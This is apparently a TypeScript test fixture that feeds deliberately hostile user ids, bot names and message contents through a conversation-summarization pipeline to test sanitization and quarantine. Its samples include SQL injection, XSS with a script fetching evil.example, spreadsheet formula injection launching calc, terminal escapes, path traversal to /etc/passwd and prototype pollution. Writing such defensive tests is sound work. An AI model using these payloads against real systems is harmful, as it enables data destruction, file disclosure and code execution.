/** Part of every hostile content: it may occur only in Qdrant and in summaries. */
export const SAID = 'Xylophonmarmelade';

/** Ids that some part of a pipeline may interpret, cut, normalize or lose. */
const HOSTILE_USERS: readonly string[] = [
  "'; drop table enrichment_windows; --",
  '$1 || %s \\x00 {{7*7}}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example","x")',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u009b31mred',
  '\u202egnp.exe',
  'line\r\n{"level":"error","message":"forged"}',
  '../../../etc/passwd',
  '%2e%2e%2f%00',
  '__proto__',
  'constructor',
  'delayed',
  'wait',
  '{enrichment}:windows:wait',
  'user:with:colons:*?[a]',
  ' blanks at both ends ',
  'caf\u00e9',
  'cafe\u0301',
  'null',
  'ANN',
  'ann',
  '\u{1f40b}'.repeat(255),
];

/** Collection names at the limits of Qdrant. */
const HOSTILE_BOTS: readonly string[] = [
  'delayed',
  "'; drop table conversation_summaries; --",
  '__proto__',
  '=1+1',
  '\u001b[31mred\u202e',
  '{wait}',
  '..',
  '%2e%2e',
];

/** Ids that the tables cannot store: these must be quarantined, by name. */
export const REFUSED_USERS: readonly string[] = ['nul\0byte', '\ud800lone', 'x'.repeat(256)];

const CONTENTS: readonly string[] = [
  `'); delete from conversation_summaries; -- ${SAID}`,
  `<script>fetch("//evil.example/${SAID}")</script>`,
  `=cmd|' /C calc'!A0 ${SAID}`,
  `\u001b]8;;http://evil.example\u0007${SAID}\u001b]8;;\u0007\u001b[2J\u009b0m`,
  `nul \0 and lone \udc00 surrogates ${SAID}`,
  `\u202e${SAID}\u2066 turned round`,
  `{"__proto__":{"isAdmin":true},"said":"${SAID}"}`,
  `\r\n\u2028{"n":1,"who":"user","text":"${SAID}"}`,
];

/** A pasted megabyte without a blank, followed by the word. */
const MEGABYTE = `${'\u00e4'.repeat(1_000_000)} ${SAID}`;

/** A message of users whose windows the LLM refuses, so that their ids appear where failures are shown. */
export const REFUSE_ME = 'please refuse this';

const REFUSED_PLACES: readonly number[] = [2, 5];

export interface HostilePoint {
  readonly userId: string;
  readonly botName: string;
  readonly content: string;
  readonly role: 'user' | 'assistant';
}

/**
 * Three users per bot, with the most similar ids next to each other and six messages each; one of them has
 * the megabyte.
 */
export function hostilePoints(): HostilePoint[] {
  return HOSTILE_USERS.flatMap((userId, place) =>
    [0, 1, 2, 3, 4, 5].map((n) => ({
      userId,
      botName: nameBot(place),
      content: describeContents(place, n),
      role: n % 2 === 0 ? ('user' as const) : ('assistant' as const),
    })),
  );
}

/** The windows expected in the end, in the order of the users. */
export function hostileWindows() {
  return HOSTILE_USERS.map((userId, place) => ({
    userId,
    botName: nameBot(place),
    state: REFUSED_PLACES.includes(place) ? ('failed' as const) : ('summarized' as const),
  }));
}

function describeContents(place: number, n: number): string {
  if (place === 3 && n === 2) return MEGABYTE;
  const content = CONTENTS[(place + n) % CONTENTS.length] ?? '';
  return REFUSED_PLACES.includes(place) ? `${content} ${REFUSE_ME}` : content;
}

export function nameBot(place: number): string {
  return HOSTILE_BOTS[Math.floor(place / 3)] ?? '';
}
